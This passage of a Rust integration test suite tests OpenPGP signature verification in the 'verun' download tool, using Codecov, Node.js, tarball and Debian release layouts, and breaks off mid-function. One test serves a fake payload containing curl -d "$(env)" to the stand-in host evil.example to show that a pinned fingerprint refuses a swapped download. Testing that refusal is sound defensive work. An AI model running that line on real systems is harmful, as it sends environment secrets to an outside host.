//! OpenPGP end to end, in the shapes real publishers use (issue 14), against the real
//! `verun` binary and a loopback HTTPS server; every key and signature is made at run time
//! by GnuPG (`gpg --quick-gen-key`, `--detach-sign`, `--clearsign`), never committed.
//!
//! - **Codecov**: an RSA primary key [SC] with only an encryption subkey signs
//!   `codecov.SHA256SUM` (binary `.sig`); the certificate is fetched by URL and counts only
//!   when pinned with `--fingerprint`.
//! - **Node.js**: a keyring of several releasers (one signing through an Ed25519 subkey), a
//!   cleartext-signed `SHASUMS256.txt.asc` and a detached `SHASUMS256.txt.sig`.
//! - **Upstream tarballs**: an armored `.asc` found next to the URL by default, `.sig` as
//!   the fallback.
//! - **Debian**: `verify` of a cleartext-signed `InRelease` in place (`-o` writes the text);
//!   the real vectors in `../shared/vectors/openpgp/`.
//! - Store entries, lockfiles and `audit`, `--json`, rollback, with OpenPGP signers.
//! - Validity at the signature's creation time (a revoked subkey, a signature after expiry),
//!   SHA-1, sanitised user IDs, and every accepted hash and text mode through the one
//!   streaming pass.

mod common;

use std::path::{Path, PathBuf};
use std::process::Output;
use std::sync::OnceLock;

use common::*;

/// Keys are made ten days ago (`--faked-system-time`), so that signatures dated in the
/// past (the rollback test) are still after the keys' creation.
fn t0() -> u64 {
    now_timestamp() - 10 * 86_400
}

/// The publishers' keys, made once per run of this file.
struct Keys {
    gpg: Gpg,
    /// Codecov's shape: RSA 3072 [SC] primary, one cv25519 encryption subkey.
    codecov: String,
    /// Someone who took over the download host: an Ed25519 key with Codecov's user ID.
    attacker: String,
    /// Node.js releasers: an Ed25519 primary key that signs itself.
    alice: String,
    /// A certification-only Ed25519 primary key with an Ed25519 signing subkey.
    bob: String,
    bob_sub: String,
    /// An ECDSA P-256 releaser.
    carol: String,
    /// Not a releaser: not in the keyring.
    mallory: String,
}

fn keys() -> Option<&'static Keys> {
    static KEYS: OnceLock<Option<Keys>> = OnceLock::new();
    KEYS.get_or_init(|| {
        // One home per checkout (the agent gpg starts outlives this process; the next run
        // stops it), under Cargo's temporary directory for integration tests.
        let home = PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join("openpgp-cli-gnupg");
        let Some(gpg) = Gpg::fresh(&home) else {
            skipped(
                "openpgp_cli",
                "gpg (GnuPG) is not installed",
                "VERUN_REQUIRE_GPG",
                Need::Oracle,
            );
            return None;
        };
        let t = Some(t0());
        let codecov = gpg.generate(
            "Codecov Uploader (Codecov Uploader Verification Key) <security@codecov.io>",
            "rsa3072",
            "sign",
            t,
        );
        gpg.add_subkey(&codecov, "cv25519", "encr", t);
        let attacker = gpg.generate(
            "Codecov Uploader (not really) <security@codecov.io.evil>",
            "ed25519",
            "sign",
            t,
        );
        let alice = gpg.generate("Alice Releaser <alice@nodejs.test>", "ed25519", "sign", t);
        let bob = gpg.generate("Bob Releaser <bob@nodejs.test>", "ed25519", "cert", t);
        let bob_sub = gpg.add_subkey(&bob, "ed25519", "sign", t);
        let carol = gpg.generate("Carol Releaser <carol@nodejs.test>", "nistp256", "sign", t);
        let mallory = gpg.generate("Mallory <mallory@nodejs.test>", "ed25519", "sign", t);
        Some(Keys {
            gpg,
            codecov,
            attacker,
            alice,
            bob,
            bob_sub,
            carol,
            mallory,
        })
    })
    .as_ref()
}

/// A sandbox and a loopback HTTPS server.
struct Shop {
    env: TestEnv,
    server: TestServer,
    cacert: Vec<String>,
}

impl Shop {
    fn new() -> Shop {
        let (env, server, cacert) = https_site();
        Shop {
            env,
            server,
            cacert,
        }
    }

    fn url(&self, path: &str) -> String {
        self.server.url(path)
    }

    fn serve(&self, path: &str, body: impl AsRef<[u8]>) -> String {
        self.server.route(path, Reply::bytes(body));
        self.url(path)
    }

    /// `verun ARGS --cacert CA`.
    fn verun(&self, args: &[&str]) -> Output {
        let mut all: Vec<String> = args.iter().map(|s| s.to_string()).collect();
        if !matches!(args.first(), Some(&"key")) {
            all.extend(self.cacert.iter().cloned());
        }
        self.env.verun(all)
    }

    fn out(&self, name: &str) -> PathBuf {
        self.env.path(name)
    }
}

/// Exit `code`, one `verun: error:` and one `verun: hint:` line, nothing at `dest`.
#[track_caller]
fn assert_refused(out: &Output, code: i32, dest: &Path) {
    assert_exit(out, code);
    let err = stderr(out);
    assert!(
        err.contains("verun: error: ") && err.contains("verun: hint: "),
        "{err}"
    );
    assert_no_file(dest);
}

fn s(p: &Path) -> String {
    p.display().to_string()
}

// --- Codecov ------------------------------------------------------------------------------

const UPLOADER: &[u8] = b"\x7fELF pretend codecov uploader\n";

/// Codecov's layout: `/codecov`, `/codecov.SHA256SUM` signed by `signer` as
/// `/codecov.SHA256SUM.sig`, and `/pgp_keys.asc` holding `cert`'s certificate.
fn codecov_site(shop: &Shop, k: &Keys, payload: &[u8], signer: &str, cert: &str) {
    let list = gnu_checksums(&[("codecov", payload)]);
    shop.serve("/codecov", payload);
    shop.serve("/codecov.SHA256SUM", &list);
    shop.serve(
        "/codecov.SHA256SUM.sig",
        k.gpg.detach_sign(signer, list.as_bytes(), false, None),
    );
    shop.serve("/pgp_keys.asc", k.gpg.export(&[cert], true));
}

fn codecov_fetch(shop: &Shop, dest: &Path, extra: &[&str]) -> Output {
    let mut a = vec![
        "fetch".to_string(),
        shop.url("/codecov"),
        "-o".into(),
        s(dest),
        "--checksums".into(),
        shop.url("/codecov.SHA256SUM"),
        "--checksums-sig".into(),
        shop.url("/codecov.SHA256SUM.sig"),
        "--key".into(),
        shop.url("/pgp_keys.asc"),
    ];
    a.extend(extra.iter().map(|s| s.to_string()));
    let refs: Vec<&str> = a.iter().map(String::as_str).collect();
    shop.verun(&refs)
}

#[test]
fn codecov_shape_a_signed_sha256sum_under_a_certificate_fetched_by_url_and_pinned_verifies() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let dest = shop.out("codecov");
    let out = codecov_fetch(&shop, &dest, &["--fingerprint", &k.codecov]);
    assert_exit(&out, 0);
    assert_eq!(std::fs::read(&dest).unwrap(), UPLOADER);
    let err = stderr(&out);
    assert!(err.contains(&k.codecov), "the signer is named: {err}");
    // The fingerprint as gpg prints it, in groups of four, works the same.
    let spaced: String = k
        .codecov
        .as_bytes()
        .chunks(4)
        .map(|c| std::str::from_utf8(c).unwrap())
        .collect::<Vec<_>>()
        .join(" ");
    let dest2 = shop.out("codecov2");
    assert_exit(
        &codecov_fetch(&shop, &dest2, &["--fingerprint", &spaced]),
        0,
    );
}

#[test]
fn a_certificate_fetched_by_url_without_a_fingerprint_is_a_usage_error() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let dest = shop.out("codecov");
    let out = codecov_fetch(&shop, &dest, &[]);
    assert_refused(&out, 64, &dest);
    assert!(stderr(&out).contains("--fingerprint"), "{}", stderr(&out));
    assert_eq!(shop.server.hits("/codecov"), 0, "nothing was downloaded");
}

#[test]
fn a_certificate_fetched_by_url_with_another_fingerprint_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let dest = shop.out("codecov");
    let out = codecov_fetch(&shop, &dest, &["--fingerprint", &k.alice]);
    assert_refused(&out, 77, &dest);
}

#[test]
fn a_download_host_serving_its_own_certificate_and_signature_is_refused_by_the_pin() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    // Everything replaced consistently: payload, list, signature and certificate.
    let evil = b"#!/bin/sh\ncurl -d \"$(env)\" https://evil.example/\n";
    codecov_site(&shop, k, evil, &k.attacker, &k.attacker);
    let dest = shop.out("codecov");
    let out = codecov_fetch(&shop, &dest, &["--fingerprint", &k.codecov]);
    assert_refused(&out, 77, &dest);
    // Without the pin verun would not even have used it (64, above); with the attacker's
    // own fingerprint it verifies, which shows the refusal above is the pin's doing.
    assert_exit(
        &codecov_fetch(&shop, &dest, &["--fingerprint", &k.attacker]),
        0,
    );
}

#[test]
fn a_tampered_sha256sum_or_payload_under_the_genuine_signature_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let dest = shop.out("codecov");
    // The list edited to match a replaced payload, the genuine .sig kept.
    let evil = b"#!/bin/sh\necho evil\n";
    shop.serve("/codecov", evil);
    shop.serve("/codecov.SHA256SUM", gnu_checksums(&[("codecov", evil)]));
    let out = codecov_fetch(&shop, &dest, &["--fingerprint", &k.codecov]);
    assert_refused(&out, 77, &dest);
    // The genuine list, a replaced payload.
    shop.serve(
        "/codecov.SHA256SUM",
        gnu_checksums(&[("codecov", UPLOADER)]),
    );
    let out = codecov_fetch(&shop, &dest, &["--fingerprint", &k.codecov]);
    assert_refused(&out, 77, &dest);
    // And the genuine pair works (the two refusals were the tampering's).
    shop.serve("/codecov", UPLOADER);
    assert_exit(
        &codecov_fetch(&shop, &dest, &["--fingerprint", &k.codecov]),
        0,
    );
}

// --- Node.js ------------------------------------------------------------------------------

const TARBALL: &[u8] = b"pretend node-v22.0.0-linux-x64.tar.xz\n";
const OTHER: &[u8] = b"pretend node-v22.0.0-darwin-arm64.tar.gz\n";

fn shasums() -> String {
    gnu_checksums(&[
        ("node-v22.0.0-darwin-arm64.tar.gz", OTHER),
        ("node-v22.0.0-linux-x64.tar.xz", TARBALL),
    ])
}

/// The releasers' keyring as a file in the work directory (binary, as `gpg --export`).
fn keyring(shop: &Shop, k: &Keys) -> String {
    let ring = k.gpg.export(&[&k.alice, &k.bob, &k.carol], false);
    s(&shop.env.write("releasers.gpg", ring))
}

fn node_fetch(shop: &Shop, ring: &str, list: &str, dest: &Path, extra: &[&str]) -> Output {
    let mut a = vec![
        "fetch".to_string(),
        shop.url("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz"),
        "-o".into(),
        s(dest),
        "--checksums".into(),
        shop.url(&format!("/dist/v22.0.0/{list}")),
        "--key".into(),
        ring.into(),
    ];
    a.extend(extra.iter().map(|s| s.to_string()));
    let refs: Vec<&str> = a.iter().map(String::as_str).collect();
    shop.verun(&refs)
}

#[test]
fn nodejs_shape_a_cleartext_signed_list_by_any_releaser_of_the_keyring_verifies() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", TARBALL);
    // Bob signs through his signing subkey, Alice and Carol with their primary keys.
    for (i, signer) in [&k.bob_sub, &k.alice, &k.carol].into_iter().enumerate() {
        shop.serve(
            "/dist/v22.0.0/SHASUMS256.txt.asc",
            k.gpg.clearsign(signer, shasums().as_bytes(), None),
        );
        let dest = shop.out(&format!("node-{i}.tar.xz"));
        let out = node_fetch(&shop, &ring, "SHASUMS256.txt.asc", &dest, &[]);
        assert_exit(&out, 0);
        assert_eq!(std::fs::read(&dest).unwrap(), TARBALL);
    }
}

/// Node.js publishes `SHASUMS256.txt`, its cleartext-signed copy `SHASUMS256.txt.asc` and
/// a detached `SHASUMS256.txt.sig` side by side: with `--checksums .../SHASUMS256.txt`
/// the `.asc` sibling is no detached signature of it, and must not hide the `.sig`.
#[test]
fn nodejs_shape_the_plain_lists_sig_counts_though_its_asc_sibling_is_the_cleartext_copy() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", TARBALL);
    shop.serve("/dist/v22.0.0/SHASUMS256.txt", shasums());
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.asc",
        k.gpg.clearsign(&k.alice, shasums().as_bytes(), None),
    );
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.sig",
        k.gpg
            .detach_sign(&k.bob_sub, shasums().as_bytes(), false, None),
    );
    let dest = shop.out("node.tar.xz");
    let out = node_fetch(&shop, &ring, "SHASUMS256.txt", &dest, &["--json"]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    assert!(
        v.to_string().contains(&format!("openpgp:{}", k.bob)),
        "the list's signer is Bob's certificate (primary fingerprint): {v}"
    );
    assert_eq!(std::fs::read(&dest).unwrap(), TARBALL);
    assert_eq!(shop.server.hits("/dist/v22.0.0/SHASUMS256.txt.sig"), 1);
    // The .sig is evidence like any other: one by someone outside the keyring is refused.
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.sig",
        k.gpg
            .detach_sign(&k.mallory, shasums().as_bytes(), false, None),
    );
    let dest = shop.out("node2.tar.xz");
    assert_refused(
        &node_fetch(&shop, &ring, "SHASUMS256.txt", &dest, &[]),
        77,
        &dest,
    );
}

#[test]
fn a_cleartext_list_signed_by_someone_outside_the_keyring_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    let evil = b"pretend node with a backdoor\n";
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", evil);
    let list = gnu_checksums(&[("node-v22.0.0-linux-x64.tar.xz", evil)]);
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.asc",
        k.gpg.clearsign(&k.mallory, list.as_bytes(), None),
    );
    let dest = shop.out("node.tar.xz");
    let out = node_fetch(&shop, &ring, "SHASUMS256.txt.asc", &dest, &[]);
    assert_refused(&out, 77, &dest);
    assert!(stderr(&out).contains(&k.mallory), "{}", stderr(&out));
}

#[test]
fn a_line_added_to_a_cleartext_signed_list_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    let evil = b"pretend node with a backdoor\n";
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", evil);
    let signed = k.gpg.clearsign(&k.alice, shasums().as_bytes(), None);
    // The attacker's entry for the same name, slipped into the signed text.
    let text = String::from_utf8(signed).unwrap();
    let line = format!("{}  node-v22.0.0-linux-x64.tar.xz\n", sha256_hex(evil));
    let tampered = text.replacen("\n\n", &format!("\n\n{line}"), 1);
    assert_ne!(tampered, text);
    shop.serve("/dist/v22.0.0/SHASUMS256.txt.asc", &tampered);
    let dest = shop.out("node.tar.xz");
    assert_refused(
        &node_fetch(&shop, &ring, "SHASUMS256.txt.asc", &dest, &[]),
        77,
        &dest,
    );
}

#[test]
fn a_signature_file_holding_an_unknown_signers_signature_besides_a_releasers_verifies() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let ring = keyring(&shop, k);
    shop.serve("/dist/v22.0.0/node-v22.0.0-linux-x64.tar.xz", TARBALL);
    shop.serve("/dist/v22.0.0/SHASUMS256.txt", shasums());
    // Two binary signature packets back to back: Mallory's (unknown here) and Carol's.
    let mut both = k
        .gpg
        .detach_sign(&k.mallory, shasums().as_bytes(), false, None);
    both.extend(
        k.gpg
            .detach_sign(&k.carol, shasums().as_bytes(), false, None),
    );
    shop.serve("/dist/v22.0.0/SHASUMS256.txt.sig", &both);
    let dest = shop.out("node.tar.xz");
    let out = node_fetch(&shop, &ring, "SHASUMS256.txt", &dest, &[]);
    assert_exit(&out, 0);
    // Mallory's alone is no evidence.
    shop.serve(
        "/dist/v22.0.0/SHASUMS256.txt.sig",
        k.gpg
            .detach_sign(&k.mallory, shasums().as_bytes(), false, None),
    );
    let dest = shop.out("node2.tar.xz");
    assert_refused(
        &node_fetch(&shop, &ring, "SHASUMS256.txt", &dest, &[]),
        77,
        &dest,
    );
}

// --- upstream tarballs: .asc by default, .sig as fallback ---------------------------------

#[test]
fn a_tarballs_armored_asc_is_found_next_to_it_by_default_and_sig_is_the_fallback() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let tarball = b"pretend libfoo-1.0.tar.gz\n";
    let url = shop.serve("/releases/libfoo-1.0.tar.gz", tarball);
    shop.serve(
        "/releases/libfoo-1.0.tar.gz.asc",
        k.gpg.detach_sign(&k.alice, tarball, true, None),
    );
    let dest = shop.out("libfoo.tar.gz");
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
    assert_exit(&out, 0);
    assert_eq!(shop.server.hits("/releases/libfoo-1.0.tar.gz.asc"), 1);
    std::fs::remove_file(&dest).unwrap();

    // No .asc: the binary .sig next to it.
    shop.server.remove_route("/releases/libfoo-1.0.tar.gz.asc");
    shop.serve(
        "/releases/libfoo-1.0.tar.gz.sig",
        k.gpg.detach_sign(&k.alice, tarball, false, None),
    );
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
    assert_exit(&out, 0);
    assert_eq!(std::fs::read(&dest).unwrap(), tarball);
    std::fs::remove_file(&dest).unwrap();

    // A changed tarball under that signature: refused.
    shop.serve(
        "/releases/libfoo-1.0.tar.gz",
        b"pretend libfoo-1.0, changed\n",
    );
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
    assert_refused(&out, 77, &dest);
    // Neither sibling: a key was given and no signature found, refused.
    shop.server.remove_route("/releases/libfoo-1.0.tar.gz.sig");
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
    assert_refused(&out, 77, &dest);
}

// --- verify FILE: cleartext-signed files in place ----------------------------------------

const RELEASE_TEXT: &str = "Origin: Example\nSuite: stable\n- a line that starts with a dash\n-----BEGIN PGP SIGNATURE----- (not really)\nFrom the release team\nSHA256:\n 0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef 1234 main/binary-amd64/Packages\n";

#[test]
fn verify_checks_a_cleartext_signed_file_in_place_and_o_writes_the_unescaped_text() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("bob.asc", k.gpg.export(&[&k.bob], true)));
    let signed = k.gpg.clearsign(&k.bob_sub, RELEASE_TEXT.as_bytes(), None);
    let signed_text = String::from_utf8(signed.clone()).unwrap();
    assert!(
        signed_text.contains("\n- - a line") && signed_text.contains("\n- -----BEGIN"),
        "gpg dash-escaped the lines: {signed_text}"
    );
    let file = s(&shop.env.write("InRelease", &signed));
    let out_path = shop.out("Release");
    let out = shop.verun(&["verify", &file, "--key", &cert, "-o", &s(&out_path)]);
    assert_exit(&out, 0);
    assert_eq!(
        std::fs::read_to_string(&out_path).unwrap(),
        RELEASE_TEXT,
        "-o writes the signed text, dash-escapes removed"
    );

    // Trailing whitespace is not part of what is signed (RFC 9580 §7.2): it verifies, and
    // what is written has none, so nothing unsigned rides along.
    let padded = signed_text.replacen("Suite: stable\n", "Suite: stable \t \n", 1);
    let file2 = s(&shop.env.write("InRelease.padded", &padded));
    let out_path2 = shop.out("Release.padded");
    let out = shop.verun(&["verify", &file2, "--key", &cert, "-o", &s(&out_path2)]);
    assert_exit(&out, 0);
    assert_eq!(std::fs::read_to_string(&out_path2).unwrap(), RELEASE_TEXT);

    // A changed byte of the text; a dash-escape undone; text after the signature block:
    // refused, nothing written.
    for (name, bad) in [
        ("appended", format!("{signed_text}Suite: unstable\n")),
        (
            "changed",
            signed_text.replacen("Suite: stable", "Suite: stabke", 1),
        ),
        (
            "unescaped",
            signed_text.replacen("\n- - a line", "\n- a line", 1),
        ),
    ] {
        let f = s(&shop.env.write(format!("InRelease.{name}"), &bad));
        let o = shop.out(&format!("Release.{name}"));
        let out = shop.verun(&["verify", &f, "--key", &cert, "-o", &s(&o)]);
        assert_refused(&out, 77, &o);
    }
    // A line put before the signed message: it is no longer a cleartext-signed file, so
    // `-o` (which writes only a signed text) is a usage error, and without it there is no
    // signature to check: refused.
    let f = s(&shop.env.write(
        "InRelease.prefixed",
        format!("Suite: unstable\n{signed_text}"),
    ));
    let o = shop.out("Release.prefixed");
    assert_refused(
        &shop.verun(&["verify", &f, "--key", &cert, "-o", &s(&o)]),
        64,
        &o,
    );
    assert_refused(&shop.verun(&["verify", &f, "--key", &cert]), 77, &o);

    // Signed by a key not given: refused.
    let mallory = k.gpg.clearsign(&k.mallory, RELEASE_TEXT.as_bytes(), None);
    let f = s(&shop.env.write("InRelease.mallory", &mallory));
    let o = shop.out("Release.mallory");
    assert_refused(
        &shop.verun(&["verify", &f, "--key", &cert, "-o", &s(&o)]),
        77,
        &o,
    );
}

/// `../shared/vectors/openpgp` (real Debian signatures), or `None` with a printed reason;
/// a failure when `CI` is set.
fn vectors(test: &str) -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../shared/vectors/openpgp");
    if dir.join("cases.json").is_file() {
        return Some(dir);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "{test}: CI is set and the OpenPGP vectors are missing at {}",
        dir.display()
    );
    skipped(
        test,
        &format!("third-party vectors not found at {}", dir.display()),
        "VERUN_REQUIRE_VECTORS",
        Need::Environment,
    );
    None
}

#[test]
fn debians_real_inrelease_verifies_with_the_archive_keyring_and_one_changed_byte_is_refused() {
    let Some(dir) = vectors("debians_real_inrelease") else {
        return;
    };
    let env = TestEnv::new();
    let keyring = s(&dir.join("debian/debian-archive-keyring.gpg"));
    let out_path = env.path("Release");
    let out = env.verun([
        "verify",
        &s(&dir.join("debian/bookworm-security_InRelease")),
        "--key",
        &keyring,
        "-o",
        &s(&out_path),
    ]);
    assert_exit(&out, 0);
    let text = std::fs::read_to_string(&out_path).unwrap();
    assert!(
        text.starts_with("Origin: Debian\n") && text.contains("Codename: bookworm-security\n"),
        "{}",
        &text[..text.len().min(300)]
    );
    assert!(
        !text.contains("BEGIN PGP"),
        "only the signed text is written"
    );
    // Both signers, by their subkeys, are named.
    let err = stderr(&out);
    for primary in [
        "AC530D520F2F3269F5E98313A48449044AAD5C5D",
        "05AB90340C0C5E797F44A8C8254CF3B5AEC0A8F0",
    ] {
        assert!(err.contains(primary), "{primary} not named in:\n{err}");
    }

    let bad = env.path("Release.bad");
    let out = env.verun([
        "verify",
        &s(&dir.join("debian/made-here/bookworm-security_InRelease.one-byte-changed")),
        "--key",
        &keyring,
        "-o",
        &s(&bad),
    ]);
    assert_refused(&out, 77, &bad);
}

#[test]
fn upstream_tarball_signatures_from_debian_verify_as_the_vectors_readme_says() {
    let Some(dir) = vectors("upstream_tarball_signatures") else {
        return;
    };
    let env = TestEnv::new();
    let up = dir.join("upstream");
    let verify = |file: PathBuf, sig: PathBuf, key: PathBuf| {
        env.verun(["verify", &s(&file), "--sig", &s(&sig), "--key", &s(&key)])
    };
    let assuan = up.join("libassuan");
    let asc = assuan.join("libassuan_2.5.5.orig.tar.bz2.asc");
    let key = assuan.join("signing-key.asc");
    assert_exit(
        &verify(
            assuan.join("libassuan_2.5.5.orig.tar.bz2"),
            asc.clone(),
            key.clone(),
        ),
        0,
    );
    // Without --sig: the `.asc` next to the tarball, as the README shows.
    let out = env.verun([
        "verify",
        &s(&assuan.join("libassuan_2.5.5.orig.tar.bz2")),
        "--key",
        &s(&key),
    ]);
    assert_exit(&out, 0);
    let out = verify(
        assuan.join("made-here/libassuan_2.5.5.orig.tar.bz2.one-byte-changed"),
        asc,
        key,
    );
    assert_exit(&out, 77);
    // libtasn1-6: signed three months after the supplied primary key expired (2022-05-17).
    let tasn1 = up.join("libtasn1-6");
    let out = verify(
        tasn1.join("libtasn1-6_4.19.0.orig.tar.gz"),
        tasn1.join("libtasn1-6_4.19.0.orig.tar.gz.asc"),
        tasn1.join("signing-key.asc"),
    );
    assert_exit(&out, 77);
    assert!(stderr(&out).contains("expire"), "{}", stderr(&out));
    // libunistring: RSA 4096, SHA-512, the key expired after it signed: good.
    let uni = up.join("libunistring");
    assert_exit(
        &verify(
            uni.join("libunistring_1.0.orig.tar.xz"),
            uni.join("libunistring_1.0.orig.tar.xz.asc"),
            uni.join("signing-key.asc"),
        ),
        0,
    );
}

// --- the key store, lockfiles, audit, reports, rollback ----------------------------------

#[test]
fn a_store_certificate_pinned_by_fingerprint_verifies_within_its_scope_until_revoked() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    codecov_site(&shop, k, UPLOADER, &k.codecov, &k.codecov);
    let cert = s(&shop
        .env
        .write("pgp_keys.asc", k.gpg.export(&[&k.codecov], true)));
    let scope = format!("{}/", shop.server.base_url());
    // The file must hold the pinned certificate.
    let out = shop.verun(&[
        "key",
        "add",
        "codecov",
        "--file",
        &cert,
        "--fingerprint",
        &k.alice,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 77);
    let out = shop.verun(&[
        "key",
        "add",
        "codecov",
        "--file",
        &cert,
        "--fingerprint",
        &k.codecov,
        "--scope",
        &scope,
    ]);
    assert_exit(&out, 0);
    let out = shop.verun(&["key", "list", "--json"]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    let entry = v
        .as_array()
        .or_else(|| v["keys"].as_array())
        .and_then(|a| a.iter().find(|e| e["name"] == "codecov"))
        .unwrap_or_else(|| panic!("no codecov entry in {v}"))
        .clone();
    assert_eq!(entry["kind"], "openpgp", "{entry}");
    assert_eq!(entry["signer"], format!("openpgp:{}", k.codecov), "{entry}");

    let dest = shop.out("codecov");
    let fetch = |dest: &Path| {
        shop.verun(&[
            "fetch",
            &shop.url("/codecov"),
            "-o",
            &s(dest),
            "--checksums",
            &shop.url("/codecov.SHA256SUM"),
        ])
    };
    // No --key: the store's certificate, found as the list's `.sig` sibling.
    let out = fetch(&dest);
    assert_exit(&out, 0);
    assert_eq!(std::fs::read(&dest).unwrap(), UPLOADER);
    std::fs::remove_file(&dest).unwrap();

    assert_exit(&shop.verun(&["key", "revoke", "codecov"]), 0);
    assert_refused(&fetch(&dest), 77, &dest);
}

#[test]
fn the_lockfile_names_the_openpgp_signer_and_audit_reverifies_and_reports_drift() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let v1 = b"#!/bin/sh\necho release 1\n";
    let url = shop.serve("/get/tool.sh", v1);
    shop.serve(
        "/get/tool.sh.asc",
        k.gpg.detach_sign(&k.alice, v1, true, None),
    );
    let dest = shop.out("tool.sh");
    let out = shop.verun(&[
        "fetch",
        &url,
        "-o",
        &s(&dest),
        "--key",
        &cert,
        "--lock",
        "verun.lock",
    ]);
    assert_exit(&out, 0);
    let lock = String::from_utf8(shop.env.read("verun.lock")).unwrap();
    assert!(
        lock.contains(&format!("signer = \"openpgp:{}\"", k.alice)),
        "{lock}"
    );
    let out = shop.verun(&["audit", "verun.lock", "--key", &cert]);
    assert_exit(&out, 0);
    let text = stdout(&out);
    assert!(text.starts_with("ok "), "{text}");
    assert!(text.contains("signature by"), "{text}");

    // Validly re-signed, different bytes: drift.
    let v2 = b"#!/bin/sh\necho release 2\n";
    shop.serve("/get/tool.sh", v2);
    shop.serve(
        "/get/tool.sh.asc",
        k.gpg.detach_sign(&k.alice, v2, true, None),
    );
    let out = shop.verun(&["audit", "verun.lock", "--key", &cert]);
    assert_exit(&out, 77);
    assert!(stdout(&out).starts_with("drifted "), "{}", stdout(&out));
}

#[test]
fn the_json_report_names_the_openpgp_signer_and_its_key() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("bob.asc", k.gpg.export(&[&k.bob], false)));
    let body = b"pretend binary\n";
    let url = shop.serve("/b/tool", body);
    shop.serve(
        "/b/tool.sig",
        k.gpg.detach_sign(&k.bob_sub, body, false, None),
    );
    let dest = shop.out("tool");
    let out = shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert, "--json"]);
    assert_exit(&out, 0);
    let v: serde_json::Value = serde_json::from_str(stdout(&out).trim()).unwrap();
    let text = v.to_string();
    assert!(text.contains(&format!("openpgp:{}", k.bob)), "{v}");
    assert!(
        text.contains(&k.bob_sub),
        "the signing subkey is named: {v}"
    );
    assert!(text.contains("Bob Releaser"), "{v}");
}

#[test]
fn an_openpgp_signature_older_than_one_already_accepted_for_the_url_is_refused() {
    let Some(k) = keys() else { return };
    let shop = Shop::new();
    let cert = s(&shop.env.write("alice.asc", k.gpg.export(&[&k.alice], true)));
    let now = now_timestamp();
    let new = b"#!/bin/sh\necho 1.1, fixes a hole\n";
    let old = b"#!/bin/sh\necho 1.0, has the hole\n";
    let url = shop.serve("/r/install.sh", new);
    shop.serve(
        "/r/install.sh.asc",
        k.gpg.detach_sign(&k.alice, new, true, Some(now - 3600)),
    );
    let dest = shop.out("install.sh");
    let fetch = || shop.verun(&["fetch", &url, "-o", &s(&dest), "--key", &cert]);
    assert_exit(&fetch(), 0);
    std::fs::remove_file(&dest).unwrap();
    // The host goes back to the genuinely signed, older release.
    shop.serve("/r/install.sh", old);
    shop.serve(
        "/r/install.sh.asc",
        k.gpg
            .detach_sign(&k.alice, old, true, Some(now - 2 * 86_400)),
    );
    let out = fetch();
    assert_refused(&out, 77, &dest);
    assert!(
        stderr(&out).contains("--allow-downgrade"),
        "refused as a rollback: {}",
        stderr(&out)
    );
    // It is a valid signature: accepted once the downgrade is allowed explicitly.
    let out = shop.verun(&[
        "fetch",
        &url,
        "-o",
        &s(&dest),
        "--key",
        &cert,
        "--allow-downgrade",
    ]);
    assert_exit(&out, 0);
}

// --- key validity at signing time, weak hashes (SECURITY.md's rows) -----------------------

/// Keys with a history, made at `t0()` with `--faked-system-time`: `dave` signs through a
/// subkey revoked as compromised at t0+3d; `erin`'s key was set (at t0+2h) to expire at
/// t0+2d+2h. Signatures over [`HISTORY_DOC`] made before and after those events.
struct History {
    dave: String,
    erin: String,
    dave_before: Vec<u8>,
    dave_after: Vec<u8>,
    erin_before: Vec<u8>,
    erin_after: Vec<u8>,
}

const HISTORY_DOC: &[u8] = b"#!/bin/sh\necho history\n";

fn history() -> Option<&'static (History, &'static Keys)> {
    static H: OnceLock<Option<(History, &'static Keys)>> = OnceLock::new();
    H.get_or_init(|| {
